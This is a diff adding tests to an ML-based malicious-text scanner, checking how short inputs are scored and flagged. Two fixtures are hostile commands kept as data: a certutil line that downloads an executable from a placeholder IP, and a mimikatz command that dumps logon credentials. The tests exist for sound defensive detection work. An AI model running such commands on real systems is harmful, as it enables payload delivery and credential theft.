@@ -39,6 +39,24 @@ describe('ml on partial coverage', () => {
     expect(r.safetyScore.threatLevel).toBe('Malicious');
   });
 
+  describe('short texts (fewer than 12 words)', () => {
+    const scan = async (text: string, name: string) => ml.scan(await subjectOf(Buffer.from(text), name), ctx());
+    it('judges a one-liner from the stricter short-text level, at medium', async () => {
+      const out = await scan('certutil -urlcache -split -f http://203.0.113.9/p.exe C:\\Users\\Public\\p.exe', 'cmd.txt');
+      const p = (out.report as { ml: { probability: number } }).ml.probability;
+      expect(p).toBeGreaterThanOrEqual(0.9);
+      expect(out.findings.map((f) => [f.id, f.severity])).toEqual([['ml.text.malicious', 'medium']]);
+    });
+    it('a short sentence of prose is not flagged', async () => {
+      expect((await scan('Meeting notes: ship the release on Friday.\n', 'notes.txt')).findings).toEqual([]);
+    });
+    it('does not judge fewer than five words, however high they score (the rules read them)', async () => {
+      const out = await scan('mimikatz sekurlsa::logonpasswords', 'cmd.txt');
+      expect((out.report as { ml: { probability: number } }).ml.probability).toBeGreaterThanOrEqual(0.9);
+      expect(out.findings).toEqual([]);
+    });
+  });
+
   it('a document gets the model too (on its printable strings)', async () => {
     const pdf = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
     const r = await analyze({ content: pdf, name: 'a.pdf', scanType: 'file' }, deps);
